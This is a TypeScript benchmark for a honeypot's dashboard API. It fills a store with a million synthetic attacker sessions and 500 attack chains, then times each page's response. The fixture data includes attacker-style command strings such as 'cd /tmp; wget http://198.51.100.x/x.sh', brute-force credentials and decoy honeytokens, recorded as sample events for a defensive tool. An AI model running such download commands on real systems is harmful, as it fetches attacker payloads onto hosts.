// Dashboard benchmark: one million stored events (APIARY_BENCH_EVENTS to change it), the dashboard's
// HTTPS API under a bounded local load (CONCURRENCY clients, REQUESTS requests per page), p50/p95 per
// page (overview, session searches, credentials, attack chains, a session) against a trivial
// authenticated request (/api/session) measured in the same run.
import { mkdtempSync, rmSync } from 'node:fs';
import { Agent, request } from 'node:https';
import { cpus, loadavg, tmpdir } from 'node:os';
import { join } from 'node:path';
import { monitorEventLoopDelay } from 'node:perf_hooks';
import pino from 'pino';
import { validateConfig } from '../src/config/load.js';
import type { Config } from '../src/config/schema.js';
import type { ApiaryEvent } from '../src/events/catalogue.js';
import { newEventId } from '../src/events/id.js';
import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
import type { AttackRecord } from '../src/store/store.js';
import { SqliteDashboardReads } from '../src/store/sqlite/dashboard-reads.js';
import { startDashboard } from '../src/web/server.js';
import { MAX_RUNNING_SEARCHES, MAX_WAITING_SEARCHES } from '../src/web/api.js';

const TOTAL = Number(process.env.APIARY_BENCH_EVENTS ?? 1_000_000);
const CONCURRENCY = 4;
const SEARCH_CLIENTS = Math.min(CONCURRENCY, MAX_RUNNING_SEARCHES + MAX_WAITING_SEARCHES);
const REQUESTS = 200;
const SOURCES = 5000;
const PASSWORD = 'bench password 123';

/** Sessions of 8 events: open, version, 3 logins, 2 commands, close; one source keeps its service. */
function sessionEvents(n: number, first: number, startMs: number, stepMs: number): ApiaryEvent[] {
  const out: ApiaryEvent[] = [];
  for (let s = first; s < first + n; s++) {
    const srcN = (s * 7919) % SOURCES;
    const src = srcN % 40 === 0 ? `10.1.${srcN >> 8}.${srcN & 255}` : `${(srcN % 200) + 20}.${(srcN * 13) % 256}.${srcN >> 6}.${(srcN % 250) + 1}`;
    const protocol = srcN % 4 === 0 ? 'telnet' : 'ssh';
    const t0 = startMs + s * stepMs;
    const env = { sensor: `sensor-${s % 3}`, session: `b${s.toString(36).padStart(8, '0')}`, protocol, src_ip: src, src_port: 40000 + (s % 20000), dst_ip: '192.0.2.10', dst_port: protocol === 'ssh' ? 22 : 23 };
    const add = (k: number, type: string, payload: Record<string, unknown>): void => {
      const t = t0 + k * 100;
      out.push({ id: newEventId(t), time: new Date(t).toISOString(), type, ...env, payload } as ApiaryEvent);
    };
    add(0, 'connection.open', { transport: 'tcp' });
    add(1, 'client.version', { version: 'SSH-2.0-Go' });
    for (let k = 0; k < 3; k++) add(2 + k, 'auth.attempt', { method: 'password', username: ['root', 'admin', 'ubnt', 'oracle'][(s + k) % 4], password: `pw${(s * 3 + k) % 900}`, success: k === 2 && s % 5 === 0 });
    add(5, 'command.input', { input: `cd /tmp; wget http://198.51.100.${s % 250}/x${s % 70}.sh` });
    add(6, 'command.input', { input: 'uname -a' });
    add(7, 'connection.close', { duration_ms: 700, bytes_in: 900, bytes_out: 2000, reason: 'client' });
  }
  return out;
}

function get(agent: Agent, port: number, path: string, cookie: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = request({ host: '127.0.0.1', port, path, agent, rejectUnauthorized: false, headers: { cookie } }, (res) => {
      res.resume();
      res.on('end', () => (res.statusCode === 200 ? resolve(res.statusCode) : reject(new Error(`${path}: HTTP ${res.statusCode}`))));
    });
    req.on('error', reject);
    req.end();
  });
}

/** REQUESTS requests of PATH from CLIENTS (CONCURRENCY) clients in parallel; latencies in ms, sorted. */
async function load(agent: Agent, port: number, paths: () => string, cookie: string, clients = CONCURRENCY): Promise<number[]> {
  const times: number[] = [];
  let left = REQUESTS;
  await Promise.all(
    Array.from({ length: clients }, async () => {
      while (left-- > 0) {
        const t = performance.now();
        await get(agent, port, paths(), cookie);
        times.push(performance.now() - t);
      }
    }),
  );
  return times.sort((a, b) => a - b);
}

const CHAINS = 500;

/** Stores CHAINS synthetic chains; returns their ids. */
async function storeChains(store: SqliteStore, start: number): Promise<string[]> {
  const records: AttackRecord[] = Array.from({ length: CHAINS }, (_, c) => {
    const ips = Array.from({ length: 5 }, (_, k) => `203.0.${c % 250}.${k + 1}`);
    const t = (k: number): string => new Date(start + c * 3_600_000 + k * 60_000).toISOString();
    return {
      id: `chain-${c}`,
      score: (c * 37) % 100,
      factors: { persistence: { points: 10, explanation: 'came back on 4 days' }, separation: { points: 20, explanation: 'scan and login from different hosts' } },
      first_seen: t(0),
      last_seen: t(199),
      sources: ips.map((ip) => ({ ip, scope: 'external' as const, country: 'NL', role: 'attacker' as const })),
      services: ['ssh', 'mysql'],
      techniques: [{ id: 'T1110.001', name: 'Brute Force: Password Guessing', evidence: ['e'] }, { id: 'T1105', name: 'Ingress Tool Transfer', evidence: ['wget'] }],
      intents: [{ name: 'resource_abuse', evidence: [{ event_id: 'e', detail: 'xmrig' }] }],
      links: Array.from({ length: 20 }, (_, k) => ({ type: 'credential_handoff' as const, from: ips[k % 5]!, to: ips[(k + 1) % 5]!, explanation: 'password found by one, used by the other', evidence: [`e${k}`] })),
      steps: Array.from({ length: 200 }, (_, k) => ({ time: t(k), src_ip: ips[k % 5]!, country: 'NL', service: 'ssh', sensor: 'sensor-0', technique: k % 3 ? null : 'T1110.001', summary: `step ${k}: uname -a; wget http://198.51.100.7/x.sh`, event_id: `e${k}` })),
      events: 5000,
      merged: [],
    };
  });
  await store.commitAttacks(records, { key: 'bench.attacks', expected: undefined, next: '1' });
  return records.map((r) => r.id);
}

const pct = (sorted: number[], p: number): number => sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;

async function main(): Promise<void> {
  const dir = mkdtempSync(join(tmpdir(), 'apiary-dash-bench-'));
  try {
    const config = validateConfig({ data_dir: dir, networks: { internal: ['10.0.0.0/8'] }, dashboard: { listen: '127.0.0.1:0', admin_password: PASSWORD } }) as unknown as Config;
    const store = new SqliteStore(join(dir, 'apiary.db'));
    const sessions = Math.ceil(TOTAL / 8);
    const start = Date.UTC(2025, 0, 1);
    const stepMs = Math.floor((300 * 86_400_000) / sessions);
    const tFill = performance.now();
    for (let done = 0; done < sessions; done += 5000) await store.insertBatch(sessionEvents(Math.min(5000, sessions - done), done, start, stepMs));
    // Decoy credentials planted in the fake system, one of them used now and then.
    await store.insertBatch(
      Array.from({ length: 8 }, (_, k) => {
        const t = start + k;
        const payload = { token_id: k.toString(16).padStart(16, '0'), kind: 'ssh', username: k === 0 ? 'oracle' : `deploy${k}`, secret: k === 0 ? 'pw7' : `Decoy${k}!`, locations: ['/root/.bash_history'] };
        return { id: newEventId(t), time: new Date(t).toISOString(), type: 'honeytoken.planted', sensor: 'sensor-0', session: 'planted', protocol: 'ssh', src_ip: '0.0.0.0', src_port: 0, dst_ip: '0.0.0.0', dst_port: 0, payload } as ApiaryEvent;
      }),
    );
    // Attack chains (issue 8): CHAINS ranked chains of 200 steps and 20 links.
    const chainIds = await storeChains(store, start);
    const fillS = (performance.now() - tFill) / 1000;
    const stored = await store.count();
    const dash = await startDashboard({
      config,
      dash: config.dashboard!,
      store,
      reads: new SqliteDashboardReads(join(dir, 'apiary.db')),
      services: [],
      onEvents: () => () => undefined,
      log: pino({ level: 'silent' }),
    });
    const port = dash.bound[0]!.port;
    const agent = new Agent({ keepAlive: true, maxSockets: CONCURRENCY });
    const login = await new Promise<string>((resolve, reject) => {
      const req = request({ host: '127.0.0.1', port, path: '/api/login', method: 'POST', agent, rejectUnauthorized: false, headers: { 'content-type': 'application/json' } }, (res) => {
        res.resume();
        res.on('end', () => resolve(String(([] as string[]).concat(res.headers['set-cookie'] ?? [])[0]).split(';')[0]!));
      });
      req.on('error', reject);
      req.end(JSON.stringify({ username: 'admin', password: PASSWORD }));
    });

    // The first overview computes the period's aggregates (one pass); later ones are served from them.
    // The same process would run the sensors: the longest event-loop stall during that pass is what
    // a connecting attacker could wait.
    const loop = monitorEventLoopDelay({ resolution: 5 });
    loop.enable();
    const tCold = performance.now();
    await get(agent, port, '/api/overview', login);
    const coldS = (performance.now() - tCold) / 1000;
    loop.disable();
    const stallMs = loop.max / 1e6;

    const busySrc = sessionEvents(1, 0, start, stepMs)[0]!.src_ip;
    let n = 0;
    const rows: [string, number[]][] = [
      ['reference: /api/session', await load(agent, port, () => '/api/session', login)],
      ['overview (aggregates warm)', await load(agent, port, () => '/api/overview', login)],
      // Searches run one at a time with two waiting (past that 503): as many clients as that admits.
      ['sessions: source + service', await load(agent, port, () => `/api/sessions?src=${busySrc}&protocol=ssh`, login, SEARCH_CLIENTS)],
      ['sessions: user name + since', await load(agent, port, () => `/api/sessions?username=oracle&since=2025-06-01`, login, SEARCH_CLIENTS)],
      ['sessions: command contains', await load(agent, port, () => `/api/sessions?command=x42.sh`, login, SEARCH_CLIENTS)],
      ['credentials and honeytokens', await load(agent, port, () => '/api/credentials', login)],
      ['attack chains list', await load(agent, port, () => '/api/chains', login)],
      ['attack chain page', await load(agent, port, () => `/api/chains/${chainIds[n++ % chainIds.length]}`, login)],
      ['session page', await load(agent, port, () => `/api/sessions/b${((n++ * 7717) % sessions).toString(36).padStart(8, '0')}`, login)],
    ];
    agent.destroy();
    await dash.close();
    await store.close();
    const ref = pct(rows[0]![1], 95);
    const lines = [
      `dashboard bench (${stored} stored events in ${sessions} sessions, filled in ${fillS.toFixed(0)} s; ${CONCURRENCY} clients x ${REQUESTS} requests per page over HTTPS keep-alive)`,
      `  first overview (cold: one pass over every event)  ${coldS.toFixed(1)} s, longest event-loop stall meanwhile ${stallMs.toFixed(0)} ms`,
      ...rows.map(([name, t]) => `  ${name.padEnd(30)} p50 ${pct(t, 50).toFixed(1).padStart(6)} ms  p95 ${pct(t, 95).toFixed(1).padStart(6)} ms  (p95 ${(pct(t, 95) / ref).toFixed(1)}x reference)`),
      `  (machine load average ${loadavg()[0]!.toFixed(1)} on ${cpus().length} CPUs while measuring)`,
    ];
    process.stdout.write(`${lines.join('\n')}\n`);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
}

await main();
